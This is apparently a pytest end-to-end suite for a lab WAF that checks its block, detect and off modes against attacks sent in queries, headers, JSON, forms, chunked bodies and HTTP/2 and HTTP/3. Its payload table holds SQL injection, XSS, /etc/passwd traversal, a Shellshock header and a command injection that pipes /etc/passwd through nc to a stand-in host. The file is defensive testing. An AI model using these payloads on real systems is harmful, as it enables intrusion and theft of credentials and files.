"""Attacks meet the WAF in every place a request can carry them, and each mode does what it says."""

from __future__ import annotations

import json
from collections.abc import Callable
from urllib.parse import quote, urlencode

import httpx
import pytest
from lab import http3
from lab.admin_api import Declaration
from lab.guest import Guest
from lab.namespace import PublicNetwork
from lab.polling import until
from lab.visitor import Visitor
from lab.waf_log import WafLog

ATTACKS = {
    "SQL injection": "1' UNION SELECT username, password FROM users-- -",
    "cross-site scripting": "<script>alert(document.cookie)</script>",
    "local file inclusion": "../../../../../../etc/passwd",
    "remote code execution": "; cat /etc/passwd | nc 203.0.113.99 4444",
}
# Which header's content the Core Rule Set reads at level 1 differs by class.
IN_A_HEADER = {
    "SQL injection": ("User-Agent", "1' UNION SELECT username, password FROM users-- -"),
    "cross-site scripting": ("User-Agent", "<script>alert(document.cookie)</script>"),
    "local file inclusion": ("X-Document", "../../../../../../etc/passwd"),
    "remote code execution": ("X-Agent", "() { :; }; /bin/cat /etc/passwd"),
}
FORM = {"Content-Type": "application/x-www-form-urlencoded"}


def in_query(client: Visitor, url: str, attack: str) -> httpx.Response:
    return client.get(f"{url}/search?q={quote(ATTACKS[attack])}")


def in_header(client: Visitor, url: str, attack: str) -> httpx.Response:
    name, value = IN_A_HEADER[attack]
    return client.get(f"{url}/", headers={name: value})


def in_json(client: Visitor, url: str, attack: str) -> httpx.Response:
    return client.post(f"{url}/api", json={"outer": {"list": [1, {"note": ATTACKS[attack]}]}})


def in_form(client: Visitor, url: str, attack: str) -> httpx.Response:
    return client.post(f"{url}/form", data={"name": "x", "note": ATTACKS[attack]})


def in_chunks(client: Visitor, url: str, attack: str) -> httpx.Response:
    body = urlencode({"name": "x", "note": ATTACKS[attack]}).encode()
    pieces = iter([body[start : start + 7] for start in range(0, len(body), 7)])
    return client.post(f"{url}/form", content=pieces, headers=FORM)


PLACES = {"query": in_query, "header": in_header, "json": in_json, "form": in_form, "chunked": in_chunks}
OVER_HTTP2 = {"query over HTTP/2": in_query, "form over HTTP/2": in_form, "json over HTTP/2": in_json}
EVERYWHERE = {**PLACES, **OVER_HTTP2}


def send(new_visitor: Callable[..., Visitor], place: str, url: str, attack: str) -> httpx.Response:
    """Send one attack from an address of its own: CrowdSec bans who attacks twice."""
    return EVERYWHERE[place](new_visitor(http2=place in OVER_HTTP2), url, attack)


@pytest.mark.threat("ING-1")
@pytest.mark.threat("ING-2")
@pytest.mark.parametrize("attack", ATTACKS)
@pytest.mark.parametrize("place", EVERYWHERE)
def test_block_refuses_the_attack(new_visitor, declaration: Declaration, place: str, attack: str) -> None:
    answer = send(new_visitor, place, f"https://{declaration.name('e2e-block')}", attack)
    assert answer.status_code == 403
    assert answer.http_version == ("HTTP/2" if place in OVER_HTTP2 else "HTTP/1.1")


@pytest.mark.threat("ING-2")
def test_block_refuses_the_attacks_over_http3(guest: Guest, network: PublicNetwork, declaration: Declaration) -> None:
    host = declaration.name("e2e-block")
    for payload in ATTACKS.values():
        assert http3.ask(guest, network, host, f"/search?q={quote(payload)}").status == 403
        body = urlencode({"note": payload}).encode()
        assert http3.ask(guest, network, host, "/form", method="POST", headers=FORM, body=body).status == 403


@pytest.mark.threat("ING-1")
@pytest.mark.parametrize("attack", ATTACKS)
def test_detect_passes_and_logs_the_attack(guest: Guest, new_visitor, declaration: Declaration, attack: str) -> None:
    log = WafLog(guest)
    host = declaration.name("e2e-detect")
    for place in EVERYWHERE:
        assert send(new_visitor, place, f"https://{host}", attack).status_code == 200, place
    events = until(
        "every passed attack is logged",
        lambda: found if len(found := log.events(host)) >= len(EVERYWHERE) else None,
        within=60,
    )
    assert any(event.get("would_block") is True for event in events), events[0]
    assert all("argos_session=" not in json.dumps(event) for event in events)


@pytest.mark.threat("ING-1")
def test_off_leaves_the_request_alone(guest: Guest, new_visitor, declaration: Declaration) -> None:
    log = WafLog(guest)
    host = declaration.name("e2e-open")
    for attack in ATTACKS:
        for place in EVERYWHERE:
            assert send(new_visitor, place, f"https://{host}", attack).status_code == 200, (place, attack)
    assert log.events(host) == []


@pytest.mark.threat("ING-2")
def test_ordinary_requests_pass_in_block(new_visitor, declaration: Declaration) -> None:
    url = f"https://{declaration.name('e2e-block')}"
    client = new_visitor()
    assert client.get(f"{url}/search?q=select+a+good+union+hotel").status_code == 200
    assert client.post(f"{url}/api", json={"note": "Tom & Jerry's <3", "n": 1}).status_code == 200
    assert client.post(f"{url}/form", data={"text": "grüße aus Köln"}).status_code == 200
    photo = {"Content-Type": "image/jpeg"}
    assert client.http.put(f"{url}/upload", content=b"\x00\xff" * 1000, headers=photo).status_code == 200
    assert client.http.delete(f"{url}/upload/1").status_code in (200, 405)


@pytest.mark.threat("ING-2")
def test_level_4_refuses_what_level_1_lets_pass(new_visitor, more_hosts, declaration: Declaration) -> None:
    more_hosts(declaration.host("e2e-strict", waf={"mode": "block", "paranoia": 4}))
    query = "/?q=" + quote("a^b|c~d")
    assert new_visitor().get(f"https://{declaration.name('e2e-block')}{query}").status_code == 200
    assert new_visitor().get(f"https://{declaration.name('e2e-strict')}{query}").status_code == 403


@pytest.mark.threat("ING-2")
def test_a_hosts_own_rule_fires_on_that_host_only(new_visitor, more_hosts, declaration: Declaration) -> None:
    rule = 'SecRule ARGS:magic "@streq boom" "id:100001,phase:2,deny,status:403"'
    more_hosts(declaration.host("e2e-custom", waf={"mode": "block", "custom_rules": [rule]}))
    custom = f"https://{declaration.name('e2e-custom')}"
    assert new_visitor().get(f"{custom}/?magic=boom").status_code == 403
    assert new_visitor().get(f"{custom}/?magic=bloom").status_code == 200
    assert new_visitor().get(f"https://{declaration.name('e2e-block')}/?magic=boom").status_code == 200


@pytest.mark.threat("ING-2")
@pytest.mark.parametrize("kind", ["form", "json"])
def test_padding_is_no_way_around_inspection(new_visitor, declaration: Declaration, kind: str) -> None:
    """Past the inspected limit (64 KiB) a form or JSON is refused, not waved through."""
    url = f"https://{declaration.name('e2e-block')}/padded"
    padding, attack = "a" * 200_000, ATTACKS["SQL injection"]
    client = new_visitor()
    body = {"data": {"pad": padding, "note": attack}} if kind == "form" else {"json": {"pad": padding, "note": attack}}
    assert client.post(url, **body).status_code in (403, 413)
    assert client.post(url, content=iter([urlencode({"p": padding}).encode()]), headers=FORM).status_code == 413


@pytest.mark.threat("ING-2")
def test_claiming_an_upgrade_or_grpc_is_no_way_around_inspection(new_visitor, declaration: Declaration) -> None:
    url = f"https://{declaration.name('e2e-block')}/form"
    attack = {"note": ATTACKS["SQL injection"]}
    for headers in (
        {"Connection": "Upgrade", "Upgrade": "websocket"},
        {"Connection": "Upgrade", "Upgrade": "h2c"},
        {"TE": "trailers", "X-Grpc": "1"},
    ):
        answer = new_visitor().post(url, data=attack, headers=headers)
        assert answer.status_code in (400, 403), headers
        answer = new_visitor().get(f"{url}?note={quote(attack['note'])}", headers=headers)
        assert answer.status_code in (400, 403), headers
